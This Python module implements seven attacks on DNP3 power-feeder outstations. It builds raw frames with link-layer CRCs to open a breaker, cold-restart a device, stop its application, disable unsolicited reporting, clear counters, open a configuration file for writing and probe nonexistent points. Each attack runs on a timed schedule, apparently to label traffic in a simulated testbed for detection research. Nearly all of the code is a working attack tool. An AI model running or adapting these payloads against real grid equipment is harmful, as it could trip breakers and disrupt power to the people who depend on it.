"""The attacks on the feeders, one function each; its name is its label.

Run as `python -m feeders.attacks NAME` on the attacking host; prints start and end as epoch
seconds. All use plain sockets, to send what no master would; the feeders are simulated.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import struct
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING

from feeders import devices

if TYPE_CHECKING:
    from collections.abc import Callable

    from plant.devices import Host

ANSWER_SECONDS = 0.4
CLOSE_SECONDS = 0.2
FILE_NAME = b"./config.xml"


def crc(block: bytes) -> bytes:
    """Check a block (IEEE 1815-2012, clause 9.2.6)."""
    total = 0
    for byte in block:
        total ^= byte
        for _ in range(8):
            total = total >> 1 ^ (0xA6BC if total & 1 else 0)
    return struct.pack("<H", total ^ 0xFFFF)


def send(feeder: str, *fragments: bytes) -> None:
    """Send fragments to a feeder on a connection of their own, and hear what it says."""
    host, address = devices.FEEDERS[feeder]
    with socket.create_connection((host.address, devices.PORT), timeout=5) as line:
        line.settimeout(ANSWER_SECONDS)
        for number, fragment in enumerate(fragments):
            user = bytes((0xC0 | number, 0xC0 | number)) + fragment
            head = struct.pack("<BBBBHH", 5, 0x64, 5 + len(user), 0xC4, address, devices.MASTER)
            blocks = [user[start : start + 16] for start in range(0, len(user), 16)]
            line.sendall(b"".join(part + crc(part) for part in (head, *blocks)))
            with contextlib.suppress(TimeoutError):
                line.recv(4096)


def block(index: int, control: int) -> bytes:
    """One control relay output block behind its header."""
    return struct.pack("<BBBBBBBIIB", 12, 1, 0x17, 1, index, control, 1, 0, 0, 0)


def rogue_command() -> None:
    """Open a breaker of feeder 1: direct operate, latch off."""
    send("feeder1", b"\x05" + block(1, 4))


def cold_restart() -> None:
    """Restart feeder 2."""
    send("feeder2", b"\x0d")


def stop_application() -> None:
    """Stop the application of feeder 1."""
    send("feeder1", b"\x12")


def disable_unsolicited() -> None:
    """Have feeder 2 report no more by itself."""
    send("feeder2", b"\x15\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06")


def clear_counters() -> None:
    """Freeze and clear all counters of feeder 1."""
    send("feeder1", b"\x09\x14\x00\x06")


def write_file() -> None:
    """Open a file of feeder 2 to write it."""
    command = struct.pack("<HH6sHIIHHH", 26, len(FILE_NAME), b"", 0o777, 0, 9, 2, 1024, 1)
    item = command + FILE_NAME
    send("feeder2", b"\x19\x46\x03\x5b\x01" + struct.pack("<H", len(item)) + item)


def probe_points() -> None:
    """Select sixteen breakers that feeder 2 does not have."""
    send("feeder2", *(b"\x03" + block(100 + index, 3) for index in range(16)))


@dataclass(frozen=True, slots=True)
class Attack:
    """What is done, from where and at which second."""

    label: str
    host: Host
    second: float
    run: Callable[[], None]


ATTACKS = (
    Attack("rogue-command", devices.ROGUE, 15.0, rogue_command),
    Attack("cold-restart", devices.CENTRE, 28.0, cold_restart),
    Attack("stop-application", devices.CENTRE, 40.0, stop_application),
    Attack("disable-unsolicited", devices.CENTRE, 52.0, disable_unsolicited),
    Attack("clear-counters", devices.CENTRE, 64.0, clear_counters),
    Attack("write-file", devices.CENTRE, 76.0, write_file),
    Attack("probe-points", devices.CENTRE, 88.0, probe_points),
)


def main() -> None:
    """Run one attack and print when it began and ended."""
    attacks = {attack.label: attack for attack in ATTACKS}
    parser = argparse.ArgumentParser()
    parser.add_argument("label", choices=attacks)
    attack = attacks[parser.parse_args().label]
    start = time.time()
    attack.run()
    time.sleep(CLOSE_SECONDS)
    print(start, time.time(), flush=True)


if __name__ == "__main__":
    main()
